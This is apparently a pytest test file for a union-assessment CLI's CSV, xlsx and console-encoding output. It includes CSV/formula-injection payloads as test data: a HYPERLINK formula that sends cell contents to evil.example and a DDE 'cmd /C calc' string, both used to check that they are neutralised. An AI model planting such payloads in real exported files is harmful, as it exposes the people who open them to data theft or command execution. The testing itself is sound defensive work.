"""Answers in the forms users open (issue 13, points 1-3): CSV that Excel and WPS read right, with
formula-like cells neutralised; xlsx workbooks for `score` and `batch`, opened here with openpyxl;
and any console or pipe encoding, never a traceback."""
from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from assess.cli import main
from assess.core.messages import message
from assess.core.tabular import cell_value, code_points, csv_text, encode_text, is_formula_like, safe_text
from assess.present.renderers import column_heads
from assess.present.renderers.xlsx_book import XlsxBook
from assess.workflows.batch import CSV_COLUMNS, run_batch

ROOT = Path(__file__).resolve().parent.parent
TANGLANG = ROOT / "fixtures" / "tanglang-community.yaml"
BOM = b"\xef\xbb\xbf"
# How the field case named a union (cases/reliability/batch-csv-formula-union-name.jsonl).
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
RARE_NAME = "堂琅𠮷社区工会😀"  # 𠮷 and the emoji are not in GBK


@pytest.fixture(autouse=True)
def _at_repo_root(monkeypatch):
    monkeypatch.chdir(ROOT)


def run(*args: str, **kwargs):
    return CliRunner().invoke(main, list(args), **kwargs)


def renamed(tmp_path: Path, name: str, stem: str = "renamed") -> Path:
    """The Tanglang record with another union name."""
    data = yaml.safe_load(TANGLANG.read_text(encoding="utf-8"))
    data["union"]["name"] = name
    path = tmp_path / f"{stem}.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def jsonl_of(tmp_path: Path, names: list[str]) -> Path:
    """A JSON Lines batch input: the Tanglang record once per name (ids made unique)."""
    data = yaml.safe_load(TANGLANG.read_text(encoding="utf-8"))
    lines = []
    for i, name in enumerate(names):
        data["union"] = dict(data["union"], id=f"u{i:03d}", name=name)
        lines.append(json.dumps(data, ensure_ascii=False, default=str))
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# ---- the cell rule and the encodings -----------------------------------------------------------


def test_formula_like_text_is_neutralised_and_numbers_are_numbers():
    for text in ("=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", FORMULA_NAME):
        assert is_formula_like(text) and safe_text(text) == "'" + text
    for text in ("-3", "+1.5", "-5%", "-", "堂琅社区工会", "a=b", "", "98%"):
        assert not is_formula_like(text) and safe_text(text) == text
    assert [cell_value(v) for v in (-2.5, 3, True, None, "x")] == [-2.5, 3, 1, None, "x"]
    assert csv_text([["=A1", -2.5, "-2.5", None, "a,b"]]) == "'=A1,-2.5,-2.5,,\"a,b\"\n"


def test_encodings_put_the_bom_only_at_the_start_and_count_what_gbk_lacks():
    assert encode_text("名称\n", "utf-8-sig").data == BOM + "名称\n".encode()
    assert encode_text("名称\n", "utf-8-sig", start=False).data == "名称\n".encode()
    assert encode_text("名称\n", "utf-8").data == "名称\n".encode()
    got = encode_text(f"{RARE_NAME},{RARE_NAME}\n", "gbk")
    assert got.data.decode("gbk") == "堂琅?社区工会?,堂琅?社区工会?\n"
    assert got.replaced == 4 and got.missing == {"𠮷", "😀"}  # times replaced; which characters
    lone = encode_text("a\ud842b", "utf-8")  # a lone surrogate cannot be UTF-8 either
    assert lone.replaced == 1 and lone.missing == {"\ud842"} and lone.data.decode("utf-8") == "a\ufffdb"
    assert code_points({"😀", "𠮷"}) == "U+1F600, U+20BB7" and code_points("abcdefghij", 3) == "U+0061, U+0062, U+0063, …"


# ---- CSV from every command -----------------------------------------------------------------------


def test_every_csv_starts_with_a_bom_by_default(tmp_path):
    score = run("score", str(TANGLANG), "--format", "csv", "--engine", "python")
    accept = run("score", "fixtures/liulian-community.yaml", "--inspection", "fixtures/inspections/liulian-community.pass.yaml",
                 "--format", "csv", "--engine", "python")
    out = tmp_path / "o.csv"
    assert run("batch", str(jsonl_of(tmp_path, ["甲工会", "乙工会"])), "--standard", "bahao-community", "--out", str(out),
               "--jobs", "1").exit_code == 0
    for data in (score.stdout_bytes, accept.stdout_bytes, out.read_bytes()):
        assert data.startswith(BOM) and not data[3:].startswith(BOM)
        assert "工会" in data.decode("utf-8-sig")
    # Resuming appends rows: the mark stays at the start only.
    assert out.read_bytes().count(BOM) == 1


def test_csv_encoding_utf8_and_gbk(tmp_path):
    plain = run("score", str(TANGLANG), "--format", "csv", "--csv-encoding", "utf-8", "--engine", "python")
    assert plain.exit_code == 0 and plain.stdout_bytes.startswith("工会编号,工会名称,".encode())
    rare = renamed(tmp_path, RARE_NAME)
    gbk = run("score", str(rare), "--format", "csv", "--csv-encoding", "gbk", "--engine", "python")
    assert gbk.exit_code == 0, gbk.output
    rows = list(csv.DictReader(io.StringIO(gbk.stdout_bytes.decode("gbk"))))
    assert {r["工会名称"] for r in rows} == {"堂琅?社区工会?"}
    warnings = [line for line in gbk.stderr.splitlines() if "?" in line]
    # one warning: the characters it says are the two characters, the times every replacement
    assert warnings == [f"注意: 2 个字符 (U+1F600, U+20BB7) 无法用所选的 CSV 编码写出, 共 {2 * len(rows)} 处已替换为 ? "
                        "(用 --csv-encoding utf-8-sig 可保留全部字符)"]
    out = tmp_path / "gbk.csv"
    result = run("batch", str(jsonl_of(tmp_path, [RARE_NAME, "𠮷工会"])), "--standard", "bahao-community", "--out", str(out),
                 "--jobs", "1", "--csv-encoding", "gbk", "--lang", "en")
    assert result.exit_code == 0 and out.read_bytes().decode("gbk").splitlines()[1].split(",")[1] == "堂琅?社区工会?"
    assert [line for line in result.stderr.splitlines() if "?" in line] == [
        "note: 2 characters (U+1F600, U+20BB7) could not be written in the chosen CSV encoding; 3 occurrences were "
        "replaced by ? (--csv-encoding utf-8-sig keeps every character)"]


def test_formula_like_names_are_neutralised_in_every_csv(tmp_path):
    bad = renamed(tmp_path, FORMULA_NAME)
    rows = list(csv.DictReader(io.StringIO(run("score", str(bad), "--format", "csv", "--engine", "python")
                                           .stdout_bytes.decode("utf-8-sig"))))
    assert {r["工会名称"] for r in rows} == {"'" + FORMULA_NAME}
    out = tmp_path / "o.csv"
    names = [FORMULA_NAME, "+86 10 1234", "@cmd", "-2+3", "-3", "普通工会"]
    assert run("batch", str(jsonl_of(tmp_path, names)), "--standard", "bahao-community", "--out", str(out),
               "--jobs", "1").exit_code == 0
    got = [r["工会名称"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))]
    assert got == ["'" + FORMULA_NAME, "'+86 10 1234", "'@cmd", "'-2+3", "-3", "普通工会"]


def test_negative_numbers_stay_numbers_in_csv():
    result = run("score", "fixtures/nanxincun-community.yaml", "--inspection", "fixtures/inspections/nanxincun-community.downgrade.yaml",
                 "--format", "csv", "--engine", "python")
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
    deltas = [r["差异"] for r in rows if r["有差异"] == "是"]
    assert deltas and all(d.startswith("-") and float(d) < 0 for d in deltas)  # -2, not '-2


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_score_csv_speaks_the_language_asked_for():
    zh = _csv_rows(run("score", str(TANGLANG), "--format", "csv", "--engine", "python").stdout_bytes)
    assert zh[0] == ["工会编号", "工会名称", "标准编号", "标准版本", "一级指标", "指标编号", "二级指标", "标准分", "得分",
                     "状态", "必备项", "实际情况", "要求", "理由", "总得分", "加分", "评级得分", "评定等级"]
    rows = [dict(zip(zh[0], r)) for r in zh[1:]]
    assert {r["状态"] for r in rows} <= {"满分", "部分得分", "不得分", "缺少佐证", "不适用", "豁免"}
    assert {"满分", "缺少佐证"} <= {r["状态"] for r in rows} and {r["必备项"] for r in rows} == {"是", "否"}
    assert rows[0]["一级指标"] == "一、党政重视好" and rows[-1]["一级指标"] == "加分项"
    assert {r["评定等级"] for r in rows} == {"“八好”达标社区工会"}  # the grade's title, not `compliant`
    en = _csv_rows(run("score", str(TANGLANG), "--format", "csv", "--engine", "python", "--lang", "en").stdout_bytes)
    assert en[0] == ["union_id", "union_name", "standard_id", "standard_version", "section", "item", "title", "points",
                     "awarded", "status", "mandatory", "observed", "required", "reason", "score", "bonus", "grade_score",
                     "grade"]
    assert {"full", "missing evidence"} <= {r[9] for r in en[1:]} and {r[10] for r in en[1:]} == {"yes", "no"}
    assert [r[7:9] for r in en[1:]] == [r[7:9] for r in zh[1:]]  # the numbers do not depend on the language


def test_score_csv_shows_the_score_the_grade_was_earned_on(tmp_path):
    """A grade is earned on 评级得分 (得分 + 加分): the per-item CSV carries the bonus and the grade
    score beside the grade, in the batch CSV's order, so the number next to the grade is its own."""
    from assess.present.renderers.record_csv import CSV_COLUMNS as BATCH_COLUMNS
    from assess.present.renderers.scorecard_csv import CSV_COLUMNS
    mine = [c for c in CSV_COLUMNS if c in {"card_score", "bonus", "grade_score", "grade"}]
    assert mine == ["card_score", "bonus", "grade_score", "grade"]
    assert [c for c in BATCH_COLUMNS if c in {"score", "bonus", "grade_score", "grade_title"}] == \
        ["score", "bonus", "grade_score", "grade_title"]
    out = tmp_path / "card.csv"
    assert run("score", "fixtures/liulian-community.yaml", "--out", str(out), "--engine", "python").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert {(r["总得分"], r["加分"], r["评级得分"], r["评定等级"]) for r in rows} == {("96.6", "1", "97.6", "“八好”示范社区工会")}
    header = next(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert header[-4:] == ["总得分", "加分", "评级得分", "评定等级"]


def test_acceptance_csv_speaks_the_language_asked_for():
    args = ("score", "fixtures/liulian-community.yaml", "--inspection", "fixtures/inspections/liulian-community.fail.yaml",
            "--format", "csv", "--engine", "python")
    zh = _csv_rows(run(*args).stdout_bytes)
    assert zh[0] == ["工会编号", "标准编号", "标准版本", "一级指标", "指标编号", "二级指标", "标准分", "自评分", "考核分", "差异",
                     "自评状态", "考核状态", "有差异", "说明"]
    org = next(r for r in zh if r[4] == "org_established")
    assert org[3] == "二、组织建设好" and org[7:13] == ["3", "0", "-3", "满分", "缺少佐证", "是"]
    en = _csv_rows(run(*args, "--lang", "en").stdout_bytes)
    assert en[0][:3] == ["union_id", "standard_id", "standard_version"] and en[0][-3:] == ["inspection_status", "different", "note"]
    assert next(r for r in en if r[4] == "org_established")[7:13] == ["3", "0", "-3", "full", "missing evidence", "yes"]


def test_batch_csv_and_xlsx_headers_speak_the_language_of_the_run(tmp_path):
    records = jsonl_of(tmp_path, ["甲工会"])
    for lang, first in (("zh", ["工会编号", "工会名称", "标准编号", "标准版本", "得分", "加分", "评级得分", "等级编号", "评定等级",
                                "差距数", "差距1", "差距2", "差距3", "来源"]),
                        ("en", list(CSV_COLUMNS))):
        run_batch([str(records)], "bahao-community", str(tmp_path / f"{lang}.csv"), jobs=1, lang=lang)
        assert _csv_rows((tmp_path / f"{lang}.csv").read_bytes())[0] == first
        run_batch([str(records)], "bahao-community", str(tmp_path / f"{lang}.xlsx"), jobs=1, lang=lang)
        ws = load_workbook(tmp_path / f"{lang}.xlsx").active
        header, row = [[c.value for c in r] for r in ws.iter_rows(max_row=2)]
        assert header == first and ws.title == {"zh": "评分结果", "en": "results"}[lang]
        assert all(isinstance(row[i], (int, float)) for i in (4, 5, 6, 9))  # 得分, 加分, 评级得分, 差距数: numbers


# ---- xlsx -------------------------------------------------------------------------------------------


def _texts(ws) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


def test_score_xlsx_has_a_sheet_per_union_with_header_items_gaps_and_plan(tmp_path):
    out = tmp_path / "s.xlsx"
    bad = renamed(tmp_path, FORMULA_NAME)
    result = run("score", str(TANGLANG), "fixtures/guiyuan-street.yaml", str(bad), "--format", "xlsx", "--out", str(out),
                 "--engine", "python")
    assert result.exit_code == 0, result.output
    cards = [json.loads(run("score", p, "--format", "json", "--engine", "python").stdout)
             for p in (str(TANGLANG), "fixtures/guiyuan-street.yaml")]
    wb = load_workbook(out)
    assert wb.sheetnames[:2] == ["堂琅社区工会", "罗湖区桂园街道总工会"] and len(wb.sheetnames) == 3
    for ws, card in zip(wb.worksheets, cards):
        texts = _texts(ws)
        assert card["union"]["name"] in texts[0] and card["standard"]["title"] in texts
        for section in card["sections"]:
            assert f"{section['id']} {section['title']}" in texts
            for it in section["items"]:
                row = next(r for r in ws.iter_rows() if r[0].value == it["id"])
                assert (row[2].value, row[3].value, row[4].value) == (it["points"], it["awarded"], it["status_text"])
                assert isinstance(row[3].value, (int, float))
        assert all(g["text"] in texts for g in card["gaps"])
        assert card["next_grade"]["text"] in texts
    evil = wb.worksheets[2]
    cell = next(c for row in evil.iter_rows() for c in row if c.value == FORMULA_NAME)
    assert cell.data_type == "s" and cell.quotePrefix  # text, kept text when edited
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_xlsx_bytes_do_not_depend_on_the_time(tmp_path, monkeypatch):
    args = ["score", str(TANGLANG), "--format", "xlsx", "--engine", "python"]
    first = run(*args).stdout_bytes
    monkeypatch.setattr(time, "time", lambda: 2_000_000_000.0)
    time.sleep(1.1)
    assert run(*args).stdout_bytes == first and first.startswith(b"PK")


def test_acceptance_xlsx_opens_with_both_columns(tmp_path):
    out = tmp_path / "a.xlsx"
    result = run("score", "fixtures/liulian-community.yaml", "--inspection", "fixtures/inspections/liulian-community.pass.yaml",
                 "--format", "xlsx", "--out", str(out), "--engine", "python")
    assert result.exit_code == 0, result.output
    ws = load_workbook(out).active
    texts = _texts(ws)
    assert "自评分" in texts and "考核分" in texts and any("通过" in t for t in texts)
    row = next(r for r in ws.iter_rows() if str(r[0].value).startswith("* work_pattern"))
    assert (row[1].value, row[2].value, row[3].value) == (3, 2.6, 2)


def test_batch_xlsx_has_one_row_per_union_as_the_csv_and_resumes(tmp_path):
    records = jsonl_of(tmp_path, [f"工会{i}" for i in range(9)] + [FORMULA_NAME])
    run_batch([str(records)], "bahao-community", str(tmp_path / "o.csv"), jobs=1)
    whole = tmp_path / "whole.xlsx"
    summary = run_batch([str(records)], "bahao-community", str(whole), jobs=2, chunk_size=3)
    assert summary.scored == 10 and summary.out == str(whole)
    ws = load_workbook(whole).active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == column_heads(CSV_COLUMNS, "zh") and rows[0][:3] == ["工会编号", "工会名称", "标准编号"]
    assert ws.freeze_panes == "A2"
    expected = list(csv.reader(io.StringIO((tmp_path / "o.csv").read_text(encoding="utf-8-sig"))))[1:]
    assert len(rows) == 11
    for got, want in zip(rows[1:], expected):
        assert [("" if v is None else str(v)) for v in got] == [w.removeprefix("'") for w in want]
        assert isinstance(got[4], (int, float)) and isinstance(got[9], int)
    # Stopped after 4 records and resumed: the same workbook, byte for byte.
    part = tmp_path / "part.xlsx"
    first = run_batch([str(records)], "bahao-community", str(part), jobs=1, limit=4)
    assert not first.complete and load_workbook(part).active.max_row == 5
    run_batch([str(records)], "bahao-community", str(part), jobs=1, resume=True)
    assert part.read_bytes() == whole.read_bytes()


def test_characters_xlsx_cannot_hold_are_counted_and_named_in_xlsx_words():
    from assess.cli.base import replaced_note

    book = XlsxBook()
    book.row(book.sheet("名单\x07"), ["a\x01b\x01", "\x02", "正常"])
    book.save(io.BytesIO())  # written: nothing left open
    assert (book.replaced, book.missing) == (4, {"\x07", "\x01", "\x02"})
    assert replaced_note(book.replaced, frozenset(book.missing), "zh", csv=False) == (
        "注意: 3 个字符 (U+0001, U+0002, U+0007) 无法写入 xlsx 文件 (控制字符等), 共 4 处已替换为 U+FFFD")
    assert replaced_note(1, frozenset("😀"), "en") == (
        "note: 1 character (U+1F600) could not be written in the chosen CSV encoding; 1 occurrence was replaced by ? "
        "(--csv-encoding utf-8-sig keeps every character)")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_union_scored_against_two_standards_has_each_standard_in_its_tab(tmp_path, lang):
    """The second card of one union was a tab named "闽江精密机械有限公司工会 (2)": no standard's name."""
    out = tmp_path / "two.xlsx"
    result = run("score", "fixtures/minjiang-machinery-factory.yaml", str(TANGLANG), "--format", "xlsx",
                 "--out", str(out), "--engine", "python", "--lang", lang)
    assert result.exit_code == 0, result.output
    cards = json.loads(run("score", "fixtures/minjiang-machinery-factory.yaml", "--format", "json",
                           "--engine", "python", "--lang", lang).stdout)
    wb = load_workbook(out)
    assert len(wb.sheetnames) == 3 and wb.sheetnames[2] == "堂琅社区工会"  # one card: the union's name alone
    for name, card in zip(wb.sheetnames, cards):
        assert len(name) <= 31 and name.startswith("闽江精密机械有限公司工会"), name
        title = card["standard"]["title"]
        shown = name.split(message("xlsx.sheet.union_standard", lang, union="闽江精密机械有限公司工会", standard=""))[1]
        assert title.startswith(shown.rstrip("…")) and len(shown) >= 8, (name, title)


def test_xlsx_sheet_names_are_valid_and_unique():
    book = XlsxBook()
    names = [book.sheet(n).title for n in ("a/b:c", "A/B:C", "x" * 40, "x" * 40, "'quoted'")]
    assert names == ["a_b_c", "A_B_C (2)", "x" * 31, "x" * 27 + " (2)", "quoted"]


# ---- binary outputs and the console ---------------------------------------------------------------


def test_pdf_without_chromium_is_a_clear_message_and_exit_2(tmp_path):
    result = run("score", str(TANGLANG), "--format", "pdf", "--out", str(tmp_path / "x.pdf"),
                 env={"ASSESS_CHROMIUM": str(tmp_path / "no-such-chromium")})
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "Chromium" in result.stderr and "apt-get install chromium" in result.stderr
    assert not (tmp_path / "x.pdf").exists()


def _on_terminal(args: list[str]) -> tuple[int, str]:
    """Run `assess ARGS` with stdout on a pseudo-terminal: (exit code, what it printed)."""
    leader, follower = pty.openpty()
    proc = subprocess.run([sys.executable, "-m", "assess", *args], cwd=ROOT, stdout=follower,
                          stderr=subprocess.PIPE, timeout=120)
    os.close(follower)
    os.close(leader)
    return proc.returncode, proc.stderr.decode("utf-8")


def test_xlsx_is_never_written_to_a_terminal(tmp_path):
    code, err = _on_terminal(["score", str(TANGLANG), "--format", "xlsx", "--engine", "python"])
    assert code == 2 and "--out" in err and "Traceback" not in err
    code, err = _on_terminal(["score", str(TANGLANG), "--format", "xlsx", "--engine", "python", "--out",
                              str(tmp_path / "t.xlsx")])
    assert code == 0 and load_workbook(tmp_path / "t.xlsx").sheetnames == ["堂琅社区工会"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_gbk_console_gets_question_marks_and_one_warning(tmp_path, lang):
    rare = renamed(tmp_path, RARE_NAME)
    env = dict(os.environ, PYTHONIOENCODING="gbk")
    for fmt in ("table", "markdown", "json", "html"):
        proc = subprocess.run([sys.executable, "-m", "assess", "score", str(rare), "--format", fmt, "--lang", lang,
                               "--engine", "python"], cwd=ROOT, env=env, capture_output=True, timeout=120)
        err = proc.stderr.decode("gbk")
        assert proc.returncode == 0 and "Traceback" not in err, err
        out = proc.stdout.decode("gbk")
        assert "堂琅?社区工会?" in out and len(out) > 500
        notes = [line for line in err.splitlines() if "gbk" in line]
        assert len(notes) == 1 and "(U+1F600, U+20BB7)" in notes[0], err  # the two characters, by code point
    # Errors print on a GBK console too.
    bad = tmp_path / f"{RARE_NAME}.yaml"
    bad.write_text("union: [\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "assess", "score", str(bad), "--lang", lang], cwd=ROOT, env=env,
                          capture_output=True, timeout=120)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr.decode("gbk")


def test_xlsx_text_reads_back_as_written():
    """Excel decodes `_xHHHH_` in cell text: a literal one is escaped, a carriage return is written as
    Excel writes it, and the import's cleaning turns both back into the text."""
    from assess.workflows.spreadsheet.cells import clean_excel_text

    book = XlsxBook()
    ws = book.sheet("t")
    book.row(ws, ["name_x0041_", "a\r\nb"])
    buf = io.BytesIO()
    book.save(buf)
    cells = [c.value for c in next(load_workbook(buf).active.iter_rows())]
    assert cells == ["name_x005F_x0041_", "a_x000D_\nb"]
    assert [clean_excel_text(c) for c in cells] == ["name_x0041_", "a\nb"]


def test_more_rows_than_excel_holds_is_refused_with_a_message(tmp_path, monkeypatch):
    from assess.present.renderers import xlsx_book

    monkeypatch.setattr(xlsx_book, "MAX_ROWS", 3)  # header + 2 rows fit; Excel's real limit is 1,048,576
    result = run("batch", str(jsonl_of(tmp_path, ["甲", "乙", "丙"])), "--standard", "bahao-community",
                 "--out", str(tmp_path / "o.xlsx"), "--jobs", "1")
    assert result.exit_code == 2 and "1,048,576" in result.stderr and "Traceback" not in result.output
    assert run("batch", str(jsonl_of(tmp_path, ["甲", "乙"])), "--standard", "bahao-community",
               "--out", str(tmp_path / "ok.xlsx"), "--jobs", "1").exit_code == 0


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_grade_score_beside_its_label_starts_with_its_number(tmp_path, lang):
    """Text and xlsx read "评级得分: 得分 96.6 + 加分 1 = 97.6 分", the word 得分 twice in a row; the
    printed sheet already wrote the number first."""
    label = message("print.grade_score_label", lang)
    written = message("print.grade_score_value", lang, total="97.6", score="96.6", bonus="1")
    text = run("score", "fixtures/liulian-community.yaml", "--engine", "python", "--lang", lang).stdout
    assert f"{label}: {written}" in text
    out = tmp_path / "card.xlsx"
    assert run("score", "fixtures/liulian-community.yaml", "--format", "xlsx", "--out", str(out),
               "--engine", "python", "--lang", lang).exit_code == 0
    rows = [tuple(c for c in row if c is not None) for row in load_workbook(out).active.iter_rows(values_only=True)]
    assert (label, written) in rows
